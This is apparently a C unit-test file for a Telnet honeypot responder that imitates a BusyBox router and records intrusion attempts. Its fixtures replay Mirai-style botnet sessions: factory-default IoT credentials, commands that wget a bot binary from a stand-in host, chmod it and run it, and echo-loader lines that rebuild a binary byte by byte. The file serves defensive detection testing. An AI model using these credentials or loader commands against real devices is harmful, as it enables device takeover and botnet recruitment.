/*
 * Telnet responder: a session recorded from Python's telnetlib (3.11; it
 * refuses every option) against the responder on a loopback listener, and
 * a Mirai-style client written from its scanner's negotiation rules (it
 * accepts WILL with DO and answers DO NAWS with the window size). Each runs
 * whole and one byte at a time.
 */
#include "test_resp_harness.h"
#include "test_resp_budget.h"

static const char tx_telnetlib[] =
    "\377\374\001\377\374\037\377\376\001\377\376\003root\r\n"
    "xc3511\r\n"
    "enable\r\n"
    "/bin/busybox ECCHI\r\n"
    "cd /tmp; wget http://203.0.113.9/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7\r\n"
    "echo -ne '\\x7f\\x45\\x4c\\x46' > .d; echo -ne '\\x01\\x01' >> .d\r\n"
    "exit\r\n";

static const char tx_mirai[] =
    "\377\374\001"                                     /* WONT ECHO */
    "\377\373\037\377\372\037\000\120\000\030\377\360" /* WILL NAWS, SB NAWS 80x24 SE */
    "\377\375\001\377\375\003"                         /* DO ECHO, DO SGA */
    "\377\373\030"                                     /* WILL TTYPE */
    "\377\372\030\000xterm\377\360"                    /* SB TTYPE IS xterm SE */
    "admin\r\0"                                        /* CR NUL */
    "admin\r\n"
    "sh\r\n"
    "echo -e \"\\x41\\x4b\\x34\\x37\"\r\n"
    "rm -rf x\b\b\b\bchmod\r\n"
    "\004";

static const struct resp_config tn_cfg = {.hostname = "router"};

#define NEGOTIATION "\377\375\001\377\375\037\377\373\001\377\373\003"
#define SHELL_BANNER                                                                           \
	"\r\nBusyBox v1.30.1 (2019-05-06 11:30:57 UTC) built-in shell (ash)\r\nEnter 'help' "  \
	"for "                                                                                 \
	"a list of built-in commands.\r\n\r\n"

static void test_telnetlib(void **state)
{
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx_telnetlib, sizeof(tx_telnetlib) - 1);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_string_equal(tr_out(&c), NEGOTIATION "\r\nrouter login: "
	                                            "Password: "
	                                            "\r\n" SHELL_BANNER "root@router:~# "
	                                            "root@router:~# "
	                                            "ECCHI: applet not found\r\nroot@router:~# "
	                                            "-sh: ./m: not found\r\nroot@router:~# "
	                                            "root@router:~# ");
	assert_string_equal(tr_str(&c, "credentials.username"), "root");
	assert_string_equal(tr_str(&c, "credentials.password"), "xc3511");
	assert_string_equal(tr_str(&c, "credentials.method"), "telnet");
	assert_int_equal(tr_count(&c, "telnet.commands"), 5);
	assert_string_equal(tr_elem(&c, "telnet.commands", 1, NULL), "/bin/busybox ECCHI");
	assert_string_equal(tr_elem(&c, "telnet.urls", 0, NULL),
	                    "http://203.0.113.9/bins/mirai.arm7");
	assert_string_equal(tr_elem(&c, "telnet.echo_files", 0, NULL), ".d");
	/* the echo-loader's file, rebuilt */
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "telnet_echo_file");
	assert_string_equal(c.pl[0].name, ".d");
	assert_int_equal(c.pl[0].len, 6);
	assert_memory_equal(c.pl[0].data,
	                    "\x7f"
	                    "ELF\x01\x01",
	                    6);
	tr_close(&c);
}

static void test_mirai_negotiation_and_echo(void **state)
{
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx_mirai, sizeof(tx_mirai) - 1);
	assert_int_equal(c.act, RESP_CLOSE);
	/* WILL TTYPE is taken up and the terminal type asked for; the client's
	 * keystrokes are echoed once it accepted our WILL ECHO; the password is not */
	assert_string_equal(tr_out(&c), NEGOTIATION
	                    "\r\nrouter login: "
	                    "\377\375\030\377\372\030\001\377\360"
	                    "admin\r\nPassword: \r\n" SHELL_BANNER "admin@router:~$ "
	                    "sh\r\nadmin@router:~$ "
	                    "echo -e \"\\x41\\x4b\\x34\\x37\"\r\nAK47\r\nadmin@router:~$ "
	                    "rm -rf x\b \b\b \b\b \b\b \bchmod\r\nadmin@router:~$ ");
	assert_string_equal(tr_str(&c, "telnet.terminal_type"), "xterm");
	assert_int_equal(tr_int(&c, "telnet.window_width"), 80);
	assert_int_equal(tr_int(&c, "telnet.window_height"), 24);
	assert_string_equal(tr_elem(&c, "telnet.commands", 2, NULL), "rm -chmod");
	assert_string_equal(tr_str(&c, "credentials.password"), "admin");
	tr_close(&c);
}

static void test_login_reject(void **state)
{
	static const char tx[] =
	    "root\r\n123456\r\nadmin\r\nadmin\r\nsupport\r\nsupport\r\nx\r\n";
	struct resp_config cfg = tn_cfg;
	cfg.login_reject = 1;
	cfg.banner = "Welcome to HG8245H";
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &cfg, tx, strlen(tx));
	assert_int_equal(c.act, RESP_CLOSE);
	assert_string_equal(tr_out(&c),
	                    NEGOTIATION "\r\nWelcome to HG8245H\r\nrouter login: "
	                                "Password: \r\nLogin incorrect\r\nrouter login: "
	                                "Password: \r\nLogin incorrect\r\nrouter login: "
	                                "Password: \r\nLogin incorrect\r\n");
	assert_int_equal(tr_int(&c, "credentials_count"), 3);
	assert_string_equal(tr_elem(&c, "credentials_tried", 2, "username"), "support");
	tr_close(&c);
}

static void test_iac_edge_cases(void **state)
{
	struct tr_conn c;
	/* an escaped 0xFF inside the user name, IAC commands inside a line,
	 * a repeated DO that must not be answered twice, an unterminated SB */
	static const char tx[] = "ro\377\377ot\377\361\r\n"
	                         "pw\r\n"
	                         "\377\375\042\377\375\042"
	                         "echo a  b 'c  d' > /dev/null\r\n"
	                         "\377\372\030\000";
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, sizeof(tx) - 1);
	assert_int_equal(c.act, RESP_NEED_MORE);
	assert_string_equal(tr_str(&c, "credentials.username"), "ro\377ot");
	const char *o = tr_out(&c);
	const char *wont = strstr(o, "\377\374\042");
	assert_non_null(wont);
	assert_null(strstr(wont + 1, "\377\374\042"));
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].name, "/dev/null");
	assert_string_equal((char *)c.pl[0].data, "a b c  d\n");
	tr_close(&c);
}

static void test_timeouts(void **state)
{
	struct tr_conn c;
	tr_open(&c, &resp_telnet, &tn_cfg);
	tr_start(&c);
	resp_out_consume(&c.out, c.out.len);
	assert_int_equal(c.r->timeout(c.st, &c.out), RESP_CLOSE);
	assert_string_equal(tr_out(&c), "\r\nLogin timed out after 60 seconds\r\n");
	tr_close(&c);

	tr_open(&c, &resp_telnet, &tn_cfg);
	tr_start(&c);
	tr_feeds(&c, "a\r\nb\r\n", 0);
	resp_out_consume(&c.out, c.out.len);
	assert_int_equal(c.r->timeout(c.st, &c.out), RESP_CLOSE);
	assert_string_equal(tr_out(&c), "\r\ntimed out waiting for input: auto-logout\r\n");
	tr_close(&c);
}

static void test_bounds(void **state)
{
	char *tx = malloc(100000);
	strcpy(tx, "u\r\np\r\n");
	for (int i = 0; i < 200; i++)
		sprintf(tx + strlen(tx), "wget http://203.0.113.%d/a.sh\r\n", i);
	for (int i = 0; i < 6; i++)
		sprintf(tx + strlen(tx), "echo x >> f%d\r\n", i);
	size_t n = strlen(tx);
	memset(tx + n, 'Z', 9000);
	strcpy(tx + n + 9000, "\r\n");
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, strlen(tx));
	assert_int_equal(tr_count(&c, "telnet.commands"), 128);
	assert_int_equal(tr_int(&c, "telnet.command_count"), 207);
	assert_int_equal(tr_count(&c, "telnet.urls"), 32);
	assert_int_equal(tr_count(&c, "telnet.echo_files"), 4);
	assert_int_equal(strlen(tr_elem(&c, "telnet.commands", 127, NULL)), 30);
	free(tx);
	tr_close(&c);
}

/* Deterministic stand-in for a loader's binary. */
static void fill_bytes(uint8_t *p, size_t n, uint32_t seed)
{
	for (size_t i = 0; i < n; i++) {
		seed = seed * 1103515245 + 12345;
		p[i] = (uint8_t)(seed >> 16);
	}
}

/* "echo -ne '\xHH...' REDIR NAME\r\n" for n bytes. */
static size_t echo_line(char *out, const uint8_t *p, size_t n, const char *redir)
{
	size_t o = (size_t)sprintf(out, "echo -ne '");
	for (size_t i = 0; i < n; i++)
		o += (size_t)sprintf(out + o, "\\x%02x", p[i]);
	o += (size_t)sprintf(out + o, "' %s\r\n", redir);
	return o;
}

#define MIRAI_LINES 132
#define MIRAI_CHUNK 128

/*
 * A Mirai-style echo loader: login, 132 lines of `echo -ne '\x..' >> .d`
 * (128 bytes each, 530 characters), the wget that fetches the bot, exit.
 * Its commands are more than the record budget holds: the first ones are
 * kept, the rest counted; the URL after them and the credentials before are
 * kept; the file is rebuilt whole; the event is not cut; what is kept is
 * counted in the worker's memory budget and given back at the end.
 */
static void test_mirai_loader_budget(void **state)
{
	static uint8_t bin[MIRAI_LINES * MIRAI_CHUNK];
	char *tx = malloc(MIRAI_LINES * 600 + 1000);
	fill_bytes(bin, sizeof(bin), 7);
	size_t n = (size_t)sprintf(tx, "root\r\nxc3511\r\n");
	for (int i = 0; i < MIRAI_LINES; i++)
		n += echo_line(tx + n, bin + i * MIRAI_CHUNK, MIRAI_CHUNK, ">> .d");
	n += (size_t)sprintf(tx + n, "/bin/busybox wget http://203.0.113.7/bins/mirai.arm7 -O "
	                             ".x; chmod 777 .x; ./.x\r\nexit\r\n");
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, n);
	assert_int_equal(c.act, RESP_CLOSE);
	tr_assert_budget(&c, "telnet.commands", "telnet.command_count",
	                 "telnet.commands_not_kept", MIRAI_LINES + 2);
	/* the first commands, in order */
	const char *first = tr_elem(&c, "telnet.commands", 0, NULL);
	assert_non_null(first);
	assert_memory_equal(first, tx + 14, 30);
	assert_string_equal(tr_elem(&c, "telnet.urls", 0, NULL),
	                    "http://203.0.113.7/bins/mirai.arm7");
	assert_string_equal(tr_str(&c, "credentials.username"), "root");
	assert_string_equal(tr_str(&c, "credentials.password"), "xc3511");
	assert_int_equal(c.npl, 1);
	assert_string_equal(c.pl[0].kind, "telnet_echo_file");
	assert_string_equal(c.pl[0].name, ".d");
	assert_int_equal(c.pl[0].len, sizeof(bin));
	assert_memory_equal(c.pl[0].data, bin, sizeof(bin));
	tr_close(&c);
	assert_int_equal(resp_mem_held(), 0);

	tr_assert_held(&resp_telnet, &tn_cfg, tx, n,
	               (const char *const[]){"telnet.commands", NULL}, sizeof(bin), 0);
	free(tx);
}

/*
 * An echo-loader line longer than the line buffer (4423 characters: 1100
 * bytes as \xHH, the redirect at its end): the file is rebuilt, the raw line
 * kept as a payload, and the line counted. Whole and one byte at a time.
 */
static void test_long_echo_line(void **state)
{
	uint8_t bin[1100];
	char line[8000];
	fill_bytes(bin, sizeof(bin), 11);
	size_t ll = echo_line(line, bin, sizeof(bin), "> .loader");
	assert_int_equal(ll, 4423);
	char *tx = malloc(ll + 100);
	size_t n = (size_t)sprintf(tx, "root\r\nvizxv\r\n");
	memcpy(tx + n, line, ll);
	n += ll;
	n += (size_t)sprintf(tx + n, "exit\r\n");
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &tn_cfg, tx, n);
	assert_int_equal(c.act, RESP_CLOSE);
	assert_int_equal(tr_int(&c, "telnet.long_lines"), 1);
	assert_string_equal(tr_elem(&c, "telnet.echo_files", 0, NULL), ".loader");
	assert_int_equal(c.npl, 2);
	/* the raw line when it ended, the file at the end of the connection */
	assert_string_equal(c.pl[0].kind, "telnet_line");
	assert_string_equal(c.pl[0].name, "line-1.txt");
	assert_int_equal(c.pl[0].len, ll - 2);
	assert_memory_equal(c.pl[0].data, line, ll - 2);
	assert_false(c.pl[0].truncated);
	assert_string_equal(c.pl[1].kind, "telnet_echo_file");
	assert_string_equal(c.pl[1].name, ".loader");
	assert_int_equal(c.pl[1].len, sizeof(bin));
	assert_memory_equal(c.pl[1].data, bin, sizeof(bin));
	/* recorded as a command like any other (its first bytes) */
	assert_memory_equal(tr_elem(&c, "telnet.commands", 0, NULL), line, 100);
	tr_close(&c);
	assert_int_equal(resp_mem_held(), 0);
	free(tx);
}

/*
 * Long lines edited (backspace, ^C), longer than the payload bound, and cut
 * off by the end of the connection.
 */
static void test_long_line_edges(void **state)
{
	char *tx = malloc(40000);
	size_t n = (size_t)sprintf(tx, "u\r\np\r\n");
	/* 4800 'a', three taken back by backspace: "echo" output of 4797 'a' */
	n += (size_t)sprintf(tx + n, "echo ");
	memset(tx + n, 'a', 4800);
	n += 4800;
	memcpy(tx + n, "\b\x7f\b\r\n", 5);
	n += 5;
	/* 6000 bytes, then ^C: dropped, no payload */
	memset(tx + n, 'b', 6000);
	n += 6000;
	tx[n++] = 0x03;
	/* a line past max_payload (5000): cut, kept as truncated, not run */
	n += (size_t)sprintf(tx + n, "echo ");
	memset(tx + n, 'c', 9000);
	n += 9000;
	n += (size_t)sprintf(tx + n, " > .c\r\n");
	/* a long line the connection ends in */
	memset(tx + n, 'd', 4500);
	n += 4500;
	struct resp_config cfg = tn_cfg;
	cfg.max_payload = 5000;
	struct tr_conn c;
	tr_run_both(&c, &resp_telnet, &cfg, tx, n);
	assert_int_equal(tr_int(&c, "telnet.long_lines"), 3);
	assert_int_equal(c.npl, 3);
	assert_string_equal(c.pl[0].name, "line-1.txt");
	assert_int_equal(c.pl[0].len, 5 + 4797);
	assert_false(c.pl[0].truncated);
	assert_string_equal(c.pl[1].name, "line-2.txt");
	assert_int_equal(c.pl[1].len, 5000);
	assert_true(c.pl[1].truncated);
	assert_string_equal(c.pl[2].name, "line-3.txt");
	assert_int_equal(c.pl[2].len, 4500);
	assert_null(tr_elem(&c, "telnet.echo_files", 0, NULL));
	/* the first echo's output: 4797 'a' and no more */
	const char *o = tr_out(&c);
	const char *a = strstr(o, "aaaa");
	assert_non_null(a);
	assert_int_equal(strspn(a, "a"), 4797);
	tr_close(&c);
	assert_int_equal(resp_mem_held(), 0);
	free(tx);
}

static void test_garbage(void **state)
{
	uint8_t junk[3000];
	uint32_t x = 23;
	for (int round = 0; round < 50; round++) {
		for (size_t i = 0; i < sizeof(junk); i++) {
			x = x * 1103515245 + 12345;
			uint8_t b = (uint8_t)(x >> 16);
			junk[i] = (b & 0x1f) == 0 ? '\r' : (b & 0x1f) == 1 ? 0xff : b;
		}
		struct tr_conn c;
		tr_run_both(&c, &resp_telnet, &tn_cfg, junk, sizeof(junk));
		tr_close(&c);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_telnetlib),
	    cmocka_unit_test(test_mirai_negotiation_and_echo),
	    cmocka_unit_test(test_login_reject),
	    cmocka_unit_test(test_iac_edge_cases),
	    cmocka_unit_test(test_timeouts),
	    cmocka_unit_test(test_bounds),
	    cmocka_unit_test(test_garbage),
	    cmocka_unit_test(test_mirai_loader_budget),
	    cmocka_unit_test(test_long_echo_line),
	    cmocka_unit_test(test_long_line_edges),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
